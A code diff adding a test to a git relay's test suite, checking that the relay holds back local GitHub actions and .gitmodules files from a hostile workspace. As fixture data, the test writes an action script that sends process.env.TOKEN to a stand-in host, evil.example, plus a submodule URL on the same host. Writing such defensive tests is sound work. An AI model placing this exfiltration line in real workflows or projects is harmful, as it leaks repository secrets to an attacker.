@@ -280,6 +280,32 @@ describe("git relay against a hostile workspace", () => {
     assert.deepEqual(allowed.filesChanged, [{ path: ".github/workflows/ci.yml", change: "modified" }]);
   });
 
+  it("holds back local actions and .gitmodules like workflows, and says so", async () => {
+    const ws = checkout.workspace;
+    // A workflow that runs `uses: ./.github/actions/setup` would run this with the repository's secrets.
+    await mkdir(join(ws, ".github/actions/setup"), { recursive: true });
+    await writeFile(join(ws, ".github/actions/setup/action.yml"), "runs: { using: node20, main: x.js }\n");
+    await writeFile(
+      join(ws, ".github/actions/setup/x.js"),
+      "fetch('https://evil.example/' + process.env.TOKEN)\n",
+    );
+    await writeFile(
+      join(ws, ".gitmodules"),
+      '[submodule "x"]\n\tpath = x\n\turl = https://evil.example/x.git\n',
+    );
+    await writeFile(join(ws, "src/app.js"), "console.log('v4');\n");
+    const result = await relay();
+    assert.deepEqual(
+      result.heldBack.map((h) => h.path),
+      [".github/actions/setup/action.yml", ".github/actions/setup/x.js", ".gitmodules"],
+    );
+    for (const h of result.heldBack) assert.match(h.reason, /^added under .*allow_workflow_changes: true/);
+    assert.deepEqual(result.filesChanged, [{ path: "src/app.js", change: "modified" }]);
+    const tree = listTree(checkout.hostClone, result.commit ?? "");
+    assert.ok(!tree.has(".gitmodules"));
+    assert.ok(![...tree.keys()].some((p) => p.startsWith(".github/actions/")));
+  });
+
   it("holds back replacing .github with a symlink and keeps its files", async () => {
     execFileSync("rm", ["-r", join(checkout.workspace, ".github")]);
     await symlink("src", join(checkout.workspace, ".github"));
